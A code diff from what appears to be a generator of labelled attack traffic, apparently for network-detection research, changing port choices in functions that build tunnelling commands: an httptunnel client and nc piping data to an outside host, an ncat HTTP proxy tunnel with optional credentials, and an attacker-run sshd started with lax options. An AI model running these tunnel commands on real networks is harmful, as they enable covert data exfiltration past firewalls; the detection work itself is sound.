@@ -81,7 +81,7 @@ def ping_payload(c):
 
 @attack("http_tunnel", technique=ENCAPSULATED, tool="httptunnel", origins=INSIDE, packages=("httptunnel", "ncat"), seconds=45)
 def httptunnel(c):
-    local, port, inner, outside = c.between(2300, 2999), c.choose(80, 8080, 8890, c.between(10000, 30000)), c.between(30001, 40000), c.network.outside
+    local, port, inner, outside = c.between(2300, 2999), c.choose(81, 8890, c.between(10000, 30000)), c.between(30001, 40000), c.network.outside
     lines = "; ".join(f"echo job {c.between(1, 999)} $({text(c.between(20, 900))}); {pause(c.between(0.3, 2.5))}"
                       for _ in range(c.between(4, 14)))
     return Assault(f"htc -F {local} {outside.address}:{port} & tunnel=$!; sleep 1; ({lines}) | timeout 35 nc.openbsd -q2 127.0.0.1"
@@ -91,7 +91,7 @@ def httptunnel(c):
 
 @attack("http_tunnel", technique=ENCAPSULATED, tool="ncat proxy", origins=INSIDE, packages=("ncat",), seconds=40)
 def connect_proxy(c):
-    port, inner, outside = c.choose(3128, 8080, 8118, c.between(10000, 30000)), c.between(30001, 40000), c.network.outside
+    port, inner, outside = c.choose(3128, 8118, c.between(10000, 30000)), c.between(30001, 40000), c.network.outside
     secret = maybe(c, 0.5, f"--proxy-auth u{c.between(1, 99)}:p{c.between(1, 10**6)}")
     lines = "; ".join(f"{c.choose('echo', 'printf %s')} $({text(c.between(20, 3000))}); {pause(c.between(0.1, 2.0))}"
                       for _ in range(c.between(4, 16)))
@@ -114,7 +114,7 @@ def ssh_server(c) -> tuple[int, str]:
     """An SSH server of the attacker's: its port, and the listener that starts it unless there is one already."""
     if "outside-ssh" in c.network.outside.services and c.chance(0.5):
         return 22, "exec sleep 300"
-    port = c.choose(22022, 2222, 8022, 443, c.between(10000, 40000))
+    port = c.between(10000, 40000)
     start = (f"ssh-keygen -q -t ed25519 -N '' -f hostkey; mkdir -p /run/sshd; exec /usr/sbin/sshd -D -e -f /dev/null -h $PWD/hostkey"
              f" -p {port} -o PidFile=none -o UseDNS=no -o StrictModes=no -o LogLevel=ERROR -o Subsystem='sftp internal-sftp'")
     return port, start
